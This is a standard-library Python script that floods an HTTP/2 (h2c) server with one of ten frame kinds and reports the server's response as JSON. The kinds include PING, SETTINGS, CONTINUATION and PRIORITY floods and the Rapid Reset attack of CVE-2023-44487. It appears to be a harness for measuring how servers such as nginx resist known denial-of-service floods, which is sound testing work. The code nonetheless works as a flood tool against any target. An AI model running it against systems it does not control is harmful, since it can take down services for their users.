"""One HTTP/2 frame flood against one server, reported as JSON (/usr/bin/python3, stdlib only).

    /usr/bin/python3 flood.py --target HOST:PORT --kind KIND [--seconds S] [--max-frames N]

Opens an h2c connection with prior knowledge (preface, SETTINGS, the server's SETTINGS
acknowledged), sends one valid request (`GET /`, answered before the flood: the server has
served something, as it had for any real client), then floods frames of KIND as fast as it can,
many per send, while it reads everything the server sends (so the server's answers, PING and
SETTINGS acknowledgements, never fill the socket and slow the flood down). It stops when the
server closes the connection, after S seconds (3), or after N frames (unbounded).

KINDs:
- ping: PING (8 bytes, no ACK), each asking for an acknowledgement;
- settings: empty SETTINGS, each asking for an acknowledgement;
- window_update: WINDOW_UPDATE of 1, on the connection and on stream 1 (closed) in turn;
- priority: PRIORITY on 100 idle streams in turn (the resource loop of CVE-2019-9513);
- rst_stream: RST_STREAM CANCEL on stream 1, closed (one on an idle stream is a protocol error
  that ends the connection at once: not a flood);
- empty_data: DATA without payload or END_STREAM on stream 3, a POST to /upload whose body
  (Content-Length 1000000) never ends, so the stream stays open (both servers read a body whole
  before going upstream: the upstream is never reached);
- headers_empty: HEADERS on stream 3 with a request's pseudo-fields, then empty CONTINUATIONs,
  never END_HEADERS (a HEADERS frame with an empty fragment nginx refuses at once with
  FRAME_SIZE_ERROR: no flood to measure there);
- continuation: HEADERS on stream 3 with a request's pseudo-fields, then CONTINUATIONs of one
  byte each, never END_HEADERS. The byte is 0x90, HPACK's static entry 16
  (`accept-encoding: gzip, deflate`): a whole valid field per byte, so a server that decodes as
  the fragments come (nginx) meets a growing header list, not a malformed block;
- rapid_reset: HEADERS (`GET /`, END_STREAM) then RST_STREAM CANCEL on a new stream, again and
  again (CVE-2023-44487);
- unknown: frames of type 0x42 without payload on stream 0 (RFC 9113 §5.5: to be ignored).

Prints one JSON object: kind, target, first_answered (the valid request's stream ended) and
first_status, frames_sent and bytes_sent (handed to the kernel during the flood), seconds
(the flood's length), closed_after (seconds from the flood's start to the server's close, or
null), goaway_code and goaway_after (the first GOAWAY's code and arrival, or null), goaway_last
(its last stream), bytes_received (during the flood), frames_received by type name, error (a
failure before the flood, else null). Exits 0 whenever it could print that.
"""

import argparse
import errno
import json
import select
import socket
import struct
import sys
import time

from h2wire import FrameReader, frame, take_frame

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS = 0x0, 0x1, 0x2, 0x3, 0x4
PING, GOAWAY, WINDOW_UPDATE, CONTINUATION, UNKNOWN = 0x6, 0x7, 0x8, 0x9, 0x42
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL = 0x8

NAMES = {
    0: "DATA", 1: "HEADERS", 2: "PRIORITY", 3: "RST_STREAM", 4: "SETTINGS",
    5: "PUSH_PROMISE", 6: "PING", 7: "GOAWAY", 8: "WINDOW_UPDATE", 9: "CONTINUATION",
}

KINDS = (
    "ping", "settings", "window_update", "priority", "rst_stream", "empty_data",
    "headers_empty", "continuation", "rapid_reset", "unknown",
)

# About 64 KB of frames per send: few system calls per frame, and still a small part of a
# loopback socket's buffer, so the count of frames sent stays close to what the server read.
BATCH_BYTES = 64 * 1024


def literal(name, value):
    """An HPACK literal without indexing, new name, no Huffman (RFC 7541 §6.2.2): any server
    decodes it, and it touches no table. Names and values stay under 127 bytes here."""
    name, value = name.encode(), value.encode()
    assert len(name) < 127 and len(value) < 127
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def request(method, path, authority, fields=()):
    block = literal(":method", method) + literal(":scheme", "http")
    block += literal(":path", path) + literal(":authority", authority)
    for name, value in fields:
        block += literal(name, value)
    return block


class Connection(FrameReader):
    """The client's socket and what it read, frame by frame."""

    RECV = 256 * 1024

    def __init__(self, host, port):
        self.sock = socket.create_connection((host, port), timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.buf = bytearray()
        self.received = 0
        self.closed = False

    def frames(self):
        """The whole frames read so far, taken from the buffer."""
        out = []
        while (f := take_frame(self.buf)) is not None:
            out.append(f)
        return out

    def read_some(self):
        """Reads what is there now (non-blocking socket); marks the close."""
        while True:
            try:
                chunk = self.sock.recv(256 * 1024)
            except (BlockingIOError, InterruptedError):
                return
            except OSError:
                self.closed = True
                return
            if not chunk:
                self.closed = True
                return
            self.received += len(chunk)
            self.buf += chunk


def status_of(block):
    """The `:status` of a response's first header field when HPACK makes it easy to read:
    a static entry (8 to 14), or a literal with name index 8 and a plain 3-digit value."""
    if not block:
        return None
    first = block[0]
    static = {0x88: 200, 0x89: 204, 0x8A: 206, 0x8B: 304, 0x8C: 400, 0x8D: 404, 0x8E: 500}
    if first in static:
        return static[first]
    if first & 0x0F == 8 and first >> 4 in (0x0, 0x1, 0x4) and len(block) >= 5 and block[1] == 3:
        digits = block[2:5]
        if digits.isdigit():
            return int(digits)
    return None


def handshake_and_first_request(conn, authority):
    """Preface and SETTINGS, the server's SETTINGS acknowledged, `GET /` on stream 1 answered.
    Returns (answered, status)."""
    conn.sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
    deadline = time.monotonic() + 5
    while True:
        f = conn.next_frame(deadline)
        if f is None:
            raise RuntimeError("no SETTINGS from the server")
        if f[0] == SETTINGS and not f[1] & ACK:
            break
    conn.sock.sendall(
        frame(SETTINGS, ACK, 0)
        + frame(HEADERS, END_STREAM | END_HEADERS, 1, request("GET", "/", authority))
    )
    status = None
    while True:
        f = conn.next_frame(deadline)
        if f is None:
            return False, status
        kind, flags, stream, payload = f
        if stream != 1:
            continue
        if kind == HEADERS and status is None:
            status = status_of(payload)
        if kind == RST_STREAM or (kind in (DATA, HEADERS) and flags & END_STREAM):
            return True, status


class Flood:
    """What to send before the flood on the connection, and its batches."""

    def __init__(self, kind, authority):
        self.kind = kind
        self.next_id = 3  # rapid reset's next stream
        self.setup = b""
        self.fixed = None  # (bytes, frames) of a batch that never changes
        if kind == "ping":
            self.fixed = self.repeat(frame(PING, 0, 0, b"floodpng"))
        elif kind == "settings":
            self.fixed = self.repeat(frame(SETTINGS, 0, 0))
        elif kind == "window_update":
            one = struct.pack(">I", 1)
            self.fixed = self.repeat(frame(WINDOW_UPDATE, 0, 0, one) + frame(WINDOW_UPDATE, 0, 1, one), 2)
        elif kind == "priority":
            # Each idle stream depends on the root, weight 16: no loop, nothing invalid.
            unit = b"".join(frame(PRIORITY, 0, 3 + 2 * i, struct.pack(">IB", 0, 15)) for i in range(100))
            self.fixed = self.repeat(unit, 100)
        elif kind == "rst_stream":
            self.fixed = self.repeat(frame(RST_STREAM, 0, 1, struct.pack(">I", CANCEL)))
        elif kind == "empty_data":
            block = request("POST", "/upload", authority, [("content-length", "1000000")])
            self.setup = frame(HEADERS, END_HEADERS, 3, block)
            self.fixed = self.repeat(frame(DATA, 0, 3))
        elif kind == "headers_empty":
            self.setup = frame(HEADERS, END_STREAM, 3, request("GET", "/", authority))
            self.fixed = self.repeat(frame(CONTINUATION, 0, 3))
        elif kind == "continuation":
            self.setup = frame(HEADERS, END_STREAM, 3, request("GET", "/", authority))
            self.fixed = self.repeat(frame(CONTINUATION, 0, 3, b"\x90"))
        elif kind == "rapid_reset":
            self.block = request("GET", "/", authority)
            self.reset = struct.pack(">I", CANCEL)
        elif kind == "unknown":
            self.fixed = self.repeat(frame(UNKNOWN, 0, 0))
        else:
            raise ValueError(kind)

    @staticmethod
    def repeat(unit, frames_per_unit=1):
        n = max(1, BATCH_BYTES // len(unit))
        return unit * n, n * frames_per_unit

    def batch(self):
        """(bytes, frames) of the next batch."""
        if self.fixed is not None:
            return self.fixed
        # Rapid reset: new stream ids each time (a stream id is never used twice).
        head = frame(HEADERS, END_STREAM | END_HEADERS, 0, self.block)
        pairs = max(1, BATCH_BYTES // (len(head) + 13))
        parts = []
        for _ in range(pairs):
            sid = self.next_id
            self.next_id += 2
            parts.append(frame(HEADERS, END_STREAM | END_HEADERS, sid, self.block))
            parts.append(frame(RST_STREAM, 0, sid, self.reset))
        return b"".join(parts), 2 * pairs


def flood(conn, kind, authority, seconds, max_frames):
    out = {
        "frames_sent": 0, "bytes_sent": 0, "closed_after": None, "goaway_code": None,
        "goaway_after": None, "goaway_last": None, "bytes_received": 0, "frames_received": {},
    }
    plan = Flood(kind, authority)
    if plan.setup:
        conn.sock.sendall(plan.setup)
    conn.sock.setblocking(False)
    conn.received = 0
    poll = select.poll()
    poll.register(conn.sock, select.POLLIN | select.POLLOUT)
    start = time.monotonic()
    deadline = start + seconds
    data, frames = plan.batch()
    offset = 0
    sending = True
    while not conn.closed:
        now = time.monotonic()
        if now >= deadline:
            break
        if sending:
            poll.modify(conn.sock, select.POLLIN | select.POLLOUT)
        else:
            poll.modify(conn.sock, select.POLLIN)
        events = poll.poll(max(1, int((deadline - now) * 1000)) if not sending else 100)
        for _, ev in events:
            if ev & (select.POLLIN | select.POLLHUP | select.POLLERR):
                conn.read_some()
                for k, _, _, payload in conn.frames():
                    name = NAMES.get(k, hex(k))
                    out["frames_received"][name] = out["frames_received"].get(name, 0) + 1
                    if k == GOAWAY and out["goaway_code"] is None and len(payload) >= 8:
                        out["goaway_last"] = int.from_bytes(payload[0:4], "big") & 0x7FFFFFFF
                        out["goaway_code"] = int.from_bytes(payload[4:8], "big")
                        out["goaway_after"] = round(time.monotonic() - start, 4)
            if sending and ev & select.POLLOUT and not conn.closed:
                try:
                    n = conn.sock.send(memoryview(data)[offset:])
                except (BlockingIOError, InterruptedError):
                    n = 0
                except OSError as e:
                    # EPIPE or ECONNRESET: the server is gone; the read side says when.
                    if e.errno not in (errno.EPIPE, errno.ECONNRESET):
                        raise
                    sending = False
                    n = 0
                before = offset * frames // len(data)
                offset += n
                out["bytes_sent"] += n
                out["frames_sent"] += offset * frames // len(data) - before
                if offset == len(data):
                    data, frames = plan.batch()
                    offset = 0
                if max_frames and out["frames_sent"] >= max_frames:
                    sending = False
        if conn.closed:
            out["closed_after"] = round(time.monotonic() - start, 4)
    out["seconds"] = round(min(time.monotonic(), deadline) - start, 4)
    out["bytes_received"] = conn.received
    return out


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--target", required=True, help="HOST:PORT of an h2c listener")
    parser.add_argument("--kind", required=True, choices=KINDS)
    parser.add_argument("--seconds", type=float, default=3.0, help="longest flood (3)")
    parser.add_argument("--max-frames", type=int, default=0, help="most frames sent (0: no limit)")
    args = parser.parse_args()
    host, _, port = args.target.rpartition(":")
    report = {"kind": args.kind, "target": args.target, "error": None}
    try:
        conn = Connection(host.strip("[]"), int(port))
        answered, status = handshake_and_first_request(conn, args.target)
        report["first_answered"], report["first_status"] = answered, status
        if not answered:
            raise RuntimeError("the first request got no answer")
        report.update(flood(conn, args.kind, args.target, args.seconds, args.max_frames))
    except (OSError, RuntimeError) as e:
        report["error"] = f"{type(e).__name__}: {e}"
    print(json.dumps(report))
    return 0


if __name__ == "__main__":
    sys.exit(main())
